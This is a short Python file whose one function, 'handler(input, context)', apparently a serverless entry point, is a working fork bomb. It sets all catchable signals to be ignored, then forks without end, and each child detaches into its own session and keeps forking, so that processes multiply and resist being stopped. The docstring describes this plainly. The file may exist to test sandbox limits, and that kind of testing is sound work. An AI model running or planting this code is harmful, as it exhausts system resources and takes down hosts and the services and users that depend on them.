import contextlib
import os
import signal


def handler(input, context):
    """Every process makes more, in groups and sessions of their own, and none ever stops trying."""
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os.setsid()
